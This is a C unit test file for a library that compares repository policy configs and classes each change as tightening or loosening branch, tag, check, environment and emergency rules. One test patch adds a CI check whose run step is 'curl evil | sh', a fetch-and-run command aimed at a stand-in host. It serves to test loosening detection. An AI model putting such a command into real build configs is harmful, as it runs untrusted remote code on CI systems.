/* SPDX-License-Identifier: Apache-2.0 */
/* What counts as tightening, and that nothing else does. Requirement: PR-6, BR-3 */
#include "strategy/compare.h"
#include "strategy/preset.h"
#include "strategy/schema.h"

#include <stdio.h>
#include <stdlib.h>

#include "t.h"

static const char base[] = "strategy: 1\n"
			   "title: Base\n"
			   "roles:\n"
			   "  qa: triage\n"
			   "  lead: {level: maintain, members: [\"@ann\"]}\n"
			   "files: {forbid: [.env], max-size: 20MB}\n"
			   "branches:\n"
			   "  main: {type: production, require: {approvals: 1, checks: [unit], boxes: [Reviewed]}}\n"
			   "  develop: {type: integration, base: main, into: main, allow: {push: write}}\n"
			   "  topic: {match: \"t/{name}\", type: work, base: develop}\n"
			   "  hotfix: {match: \"hotfix/{name}\", type: hotfix, base: main, into: {main: {tag: release}}}\n"
			   "tags: {release: {match: \"v{version}\", branches: [main, develop]}}\n"
			   "checks: {unit: {on: {change: main}}, slow: {on: {change: main}}}\n"
			   "gates: {ship: {checks: [unit]}, held: {approvals: 1, enforcement: evaluate}}\n"
			   "commits: {subject: {max: 72}}\n"
			   "environments: {live: {from: [main, develop], allow: {deploy: write}, via: {run: deploy}}}\n"
			   "emergency: {by: [maintain, qa], from: [hotfix, develop], into: main, expires: 4h, require: {approvals: 1}}\n";

static slu_rc load(void *ctx, slu_arena *a, slu_str what, slu_str *text, slu_err *err)
{
	(void)ctx, (void)a, (void)err;
	*text = slu_s(base);
	return slu_str_is(what, "base.yml") ? SLU_OK : SLU_E_NOT_FOUND;
}

static const strat *compiled(slu_arena *a, const char *text)
{
	const strat *s = NULL;
	strat_issues issues = { 0 };
	slu_err err = { 0 };
	T_OK(strat_compile(&s, &issues, a, slu_s(text), "test.yml", load, NULL, &err), err);
	return s;
}

static const strat *with(slu_arena *a, const char *patch)
{
	return compiled(a, slu_printf(a, "strategy: 1\nextends: [base.yml]\n%s\n", patch));
}

static bool only_titles(const strat_differences *d)
{
	for (size_t i = 0; i < d->n; i++)
		if (!slu_str_ends(slu_s(d->v[i].path), "title") && !slu_str_is(slu_s(d->v[i].path), "name"))
			return false;
	return true;
}

/* Each tightens the base; the way back then loosens. */
T_TEST(tightens)
{
	static const char *const patch[] = {
		"branches: {main: {require: {approvals: 2}}}",
		"branches: {main: {require: {approvals: {any: 1, lead: 1}}}}",
		"branches: {main: {require: {code-owners: true}}}",
		"branches: {main: {require: {signed: true}}}",
		"branches: {main: {require: {checks: [slow, unit]}}}",
		"branches: {main: {require: {boxes: [Tested, Reviewed]}}}",
		"branches: {main: {require: {gates: [ship]}}}",
		"branches: {main: {allow: {merge: admin}}}",
		"branches: {main: {allow: {merge: [lead, admin]}}, develop: {allow: {push: [maintain, lead]}}}",
		"branches: {develop: {allow: {push: nobody}}}",
		"branches: {topic: {require: {approvals: 1}}}",
		"branches: {hotfix: {into: {main: {require: {approvals: 2, checks: [slow]}}}}}",
		"tags: {release: {annotated: true}}",
		"tags: {release: {allow: {create: admin}}}",
		"files: {forbid: [secrets/, .env]}",
		"files: {max-size: 1MB}",
		"files: {scan: secrets}",
		"commits: {subject: {max: 50}}",
		"commits: {references: required}",
		"gates: {ship: {checks: [unit, slow]}}",
		"gates: {ship: {threads-resolved: true}}",
		"gates: {held: {enforcement: active}}",
		"checks: {unit: {allow: {report: maintain}}}",
		"environments: {live: {allow: {deploy: admin, roll-back: maintain}}}",
		"environments: {live: {from: main}}",
		"environments: {live: {require: {approvals: 1}}}",
		"emergency: {by: maintain}",
		"emergency: {from: hotfix}",
		"emergency: {expires: 1h}",
		"emergency: {require: {approvals: 2}}",
		"emergency: null",
	};
	for (size_t i = 0; i < sizeof patch / sizeof *patch; i++) {
		slu_auto_arena *a = slu_arena_new();
		strat_differences d = { 0 }, back = { 0 };
		const strat *was = compiled(a, base), *now = with(a, patch[i]);
		bool only = strat_compare(&d, a, was, now);
		if (!only || d.n == 0)
			T_FAIL("%s: %s", patch[i], d.n ? d.v[0].path : "no difference");
		if (strat_compare(&back, a, now, was) || back.n == 0)
			T_FAIL("the way back from %s tightens", patch[i]);
	}
}

/* Each changes something that cannot be shown to tighten, or loosens: both ways (`both`), or going there. */
T_TEST(does_not_tighten)
{
	static const struct { const char *patch, *path; } row[] = {
		{ "branches: {main: {require: {approvals: 0}}}", "branches.main.require.approvals" },
		{ "branches: {main: {require: {approvals: {any: 1, qa: 1}}}}", "branches.main.require.approvals" },
		{ "branches: {main: {require: {approvals: {lead: 1}}}}", "branches.main.require.approvals" },
		{ "branches: {main: {require: {dismiss-stale: false}}}", "branches.main.require.dismiss-stale" },
		{ "branches: {main: {require: {up-to-date: queue}}}", "branches.main.require.up-to-date" },
		{ "branches: {main: {require: {checks: [slow]}}}", "branches.main.require.checks" },
		{ "branches: {main: {require: {checks: all}}}", "branches.main.require.checks" },
		{ "branches: {main: {require: {boxes: [Reviewed carefully]}}}", "branches.main.require.boxes" },
		{ "branches: {main: {require: {evaluate: {approvals: 2}}}}", "branches.main.require.evaluate" },
		{ "branches: {main: {allow: {merge: write}}}", "branches.main.allow.merge" },
		{ "branches: {main: {allow: {merge: [admin, qa]}}}", "branches.main.allow.merge" },
		{ "branches: {main: {allow: {merge: \"@eve\"}}}", "branches.main.allow.merge" },
		{ "branches: {main: {enforcement: evaluate}}", "branches.main.enforcement" },
		{ "enforcement: disabled", "enforcement" },
		{ "branches: {main: {match: [main, trunk]}}", "branches.main.match" },
		{ "branches: {topic: {type: throwaway}}", "branches.topic.type" },
		{ "branches: {other: {match: \"o/{name}\", type: work, base: main}}", "branches.other" },
		{ "branches: {topic: null}", "branches.topic" },
		{ "branches: {hotfix: {into: {develop: {}}}}", "branches.hotfix.into.develop" },
		{ "branches: {hotfix: {into: {main: {method: squash}}}}", "branches.hotfix.into.main.method" },
		{ "roles: {lead: {members: [\"@ann\", \"@eve\"]}}", "roles.lead.members" },
		{ "roles: {qa: write}", "roles.qa" },
		{ "files: {forbid: [.en]}", "files.forbid" },
		{ "files: {max-size: 21MB}", "files.max-size" },
		{ "files: null", "files" },
		{ "tags: {release: {match: \"r{version}\"}}", "tags.release.match" },
		{ "tags: {release: {allow: {move: admin}}}", "tags.release.allow.move" },
		{ "commits: {convention: conventional}", "commits.convention" },
		{ "commits: {subject: {max: 80}}", "commits.subject.max" },
		{ "gates: {ship: {includes: [held]}}", "gates.ship.includes" },
		{ "gates: {ship: {metrics: [\"unit < 3\"]}}\nmetrics: {unit: {check: unit}}", "gates.ship.metrics" },
		{ "gates: {held: null}", "gates.held" },
		{ "checks: {new: {run: \"curl evil | sh\", on: {change: main}}}", "checks.new" },
		{ "checks: {unit: {run: \"true\"}}", "checks.unit.run" },
		{ "checks: {unit: {allow: {report: read}}}", "checks.unit.allow.report" },
		{ "checks: {slow: {on: {change: develop}}}", "checks.slow.on.change" },
		{ "environments: {live: {via: {run: evil}}}", "environments.live.via.run" },
		{ "environments: {live: {from: [main, topic]}}", "environments.live.from" },
		{ "environments: {live: {on: {push: main}}}", "environments.live.on" },
		{ "environments: {more: {from: main, via: {run: evil}}}", "environments.more" },
		{ "emergency: {by: write}", "emergency.by" },
		{ "emergency: {expires: 5h}", "emergency.expires" },
		{ "emergency: {into: [main, develop]}", "emergency.into" },
		{ "secrets: [TOKEN]", "secrets" },
		{ "releases: {changelog: CHANGELOG.md}", "releases" },
	};
	for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
		slu_auto_arena *a = slu_arena_new();
		strat_differences d = { 0 };
		bool only = strat_compare(&d, a, compiled(a, base), with(a, row[i].patch)), said = false;
		for (size_t k = 0; k < d.n; k++)
			said = said || (d.v[k].loosens && slu_str_starts(slu_s(d.v[k].path), row[i].path));
		if (only || !said)
			T_FAIL("%s: %s", row[i].patch, only ? "it tightens" : d.v[0].path);
	}
}

T_TEST(what_is_no_rule_is_no_difference_of_rules)
{
	slu_auto_arena *a = slu_arena_new();
	const strat *was = compiled(a, base);
	strat_differences d = { 0 };
	T_TRUE(strat_compare(&d, a, was, with(a, "# a comment")));
	T_EQ_INT(d.n, 0);
	T_TRUE(strat_compare(&d, a, was, with(a, "title: Another")));
	T_EQ_INT(d.n, 1);
	T_EQ_STR(d.v[0].path, "title");
	T_EQ_STR(d.v[0].was, "Base");
	T_EQ_STR(d.v[0].now, "Another");
	T_EQ_STR(d.v[0].pos.file, "test.yml");
	T_EQ_INT(d.v[0].pos.line, 3);
	T_TRUE(strat_compare(NULL, a, was, was));
}

T_TEST(one_that_loosens_among_others_is_told_apart)
{
	slu_auto_arena *a = slu_arena_new();
	strat_differences d = { 0 };
	T_FALSE(strat_compare(&d, a, compiled(a, base), with(a, "branches: {main: {require: {approvals: 2, dismiss-stale: false}}}")));
	T_EQ_INT(d.n, 2);
	for (size_t i = 0; i < d.n; i++)
		T_EQ_INT(d.v[i].loosens, slu_str_ends(slu_s(d.v[i].path), "dismiss-stale"));
}

T_TEST(the_order_of_kinds_is_a_rule)
{
	slu_auto_arena *a = slu_arena_new();
	strat_differences d = { 0 };
	const strat *was = compiled(a, "strategy: 1\nbranches: {main: {type: production}, next: {type: production}}\n"),
		    *now = compiled(a, "strategy: 1\nbranches: {next: {type: production}, main: {type: production}}\n");
	T_FALSE(strat_compare(&d, a, was, now));
	T_EQ_STR(d.v[0].path, "branches");
}

T_TEST(presets_are_what_they_are)
{
	size_t n = 0;
	const struct strat_preset *p = strat_presets(&n);
	for (size_t i = 0; i < n; i++)
		for (size_t k = 0; k < n; k++) {
			slu_auto_arena *a = slu_arena_new();
			const strat *x = compiled(a, slu_printf(a, "strategy: 1\nextends: [%s]\n", p[i].name)), *y = compiled(a, slu_printf(a, "strategy: 1\nextends: [%s]\n", p[k].name));
			T_EQ_INT(strat_compare(NULL, a, x, y), i == k);
		}
}

static char *shown(slu_arena *a, const strat *s)
{
	slu_auto_buf b;
	slu_buf_init(&b, 1u << 22);
	strat_show_yaml(&b, s, false);
	return slu_str_dup(a, slu_buf_str(&b));
}

/* The same lines, whatever their order: a default stands behind what is written. */
static bool same_lines(slu_arena *a, const strat *x, const strat *y)
{
	const char *sx = shown(a, x), *sy = slu_printf(a, "\n%s", shown(a, y));
	slu_str rest = slu_s(sx), line;
	bool same = strlen(sx) + 1 == strlen(sy);
	while (same && slu_str_split(&rest, '\n', &line))
		same = strstr(sy, slu_printf(a, "\n%.*s\n", SLU_FMT(line))) != NULL;
	return same;
}

/* Without any one of its lines, a file with every key: what is in force differs, or is said to; and not both ways tighten. */
static void without_line(slu_arena *a, const strat *whole, slu_str text, size_t skip)
{
	slu_auto_buf less;
	slu_buf_init(&less, 1u << 20);
	slu_str rest = text, line;
	for (size_t i = 0; slu_str_split(&rest, '\n', &line); i++)
		if (i != skip)
			slu_buf_addf(&less, "%.*s\n", SLU_FMT(line));
	const strat *s = NULL;
	strat_issues issues = { 0 };
	strat_differences d = { 0 };
	if (strat_compile(&s, &issues, a, slu_buf_str(&less), "all.yml", NULL, NULL, NULL) != SLU_OK)
		return;
	bool there = strat_compare(&d, a, whole, s), back = strat_compare(NULL, a, s, whole);
	if (d.n == 0 && !same_lines(a, whole, s))
		T_FAIL("line %zu goes unseen", skip + 1);
	if (there && back && !only_titles(&d))
		T_FAIL("line %zu tightens both ways: %s", skip + 1, d.v[0].path);
}

T_TEST(nothing_goes_unseen)
{
	slu_auto_arena *a = slu_arena_new();
	slu_auto_buf b;
	slu_buf_init(&b, 1u << 20);
	const char *top = getenv("TOP");
	FILE *f = fopen(slu_printf(a, "%s/test/strategy/all.yml", top ? top : "."), "rbe");
	T_TRUE(f != NULL);
	char part[4096];
	for (size_t n; (n = fread(part, 1, sizeof part, f)) > 0;)
		slu_buf_add(&b, part, n);
	(void)fclose(f);
	slu_str text = slu_buf_str(&b), rest = text, line;
	const strat *whole = NULL;
	strat_issues issues = { 0 };
	slu_err err = { 0 };
	T_OK(strat_compile(&whole, &issues, a, text, "all.yml", NULL, NULL, &err), err);
	for (size_t i = 0; slu_str_split(&rest, '\n', &line); i++) {
		slu_auto_arena *each = slu_arena_new();
		without_line(each, whole, text, i);
	}
}
